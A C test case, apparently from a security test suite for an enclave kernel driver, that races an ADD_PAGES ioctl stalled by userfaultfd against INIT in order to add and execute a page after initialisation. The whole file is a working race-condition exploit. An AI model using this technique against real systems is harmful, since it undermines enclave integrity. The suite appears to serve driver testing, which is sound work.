// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * Two threads in ioctls of one enclave. ADD_PAGES has seen that the enclave is not initialised
 * and stops at its argument, which userfaultfd holds back; meanwhile the other thread calls
 * INIT; then the page is added. R20.1: one at a time. The hole is ioctls_at_once.
 */
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include "tricks.h"

struct adding {
	struct scene s;
	struct stall stall;
	int ret;
};

static void *add(void *arg)
{
	struct adding *a = arg;

	a->ret = ioctl(a->s.e.fd, SGX_IOC_ENCLAVE_ADD_PAGES, a->stall.page);
	return NULL;
}

void attack(void)
{
	struct avow_secinfo secinfo = { .flags = avow_secinfo_reg(AVOW_R | AVOW_X) };
	struct sgx_enclave_add_pages pages = {
		.src = (u64)source_code(1),
		.length = PAGE,
		.secinfo = (u64)&secinfo,
	};
	struct adding a;
	struct scene *s = &a.s;
	pthread_t thread;

	scene_image(s, 1);
	REQUIRE_OK(avow_enclave_sign(&s->e, scene_key()));
	pages.offset = s->play;
	stall_new(&a.stall);
	REQUIRE(!pthread_create(&thread, NULL, add, &a));
	stall_wait(&a.stall);

	ATTEMPT_UNRECORDED(avow_enclave_init(&s->e), EBUSY);
	stall_end(&a.stall, &pages, sizeof(pages));
	REQUIRE(!pthread_join(thread, NULL));
	REQUIRE(!a.ret);
	ATTEMPT(s, avow_enclave_map(&s->e, s->play, PAGE, PROT_READ | PROT_EXEC));
	attempt_exec(s, scene_at(s, s->play));
	got_through("ran code that came after INIT");
}
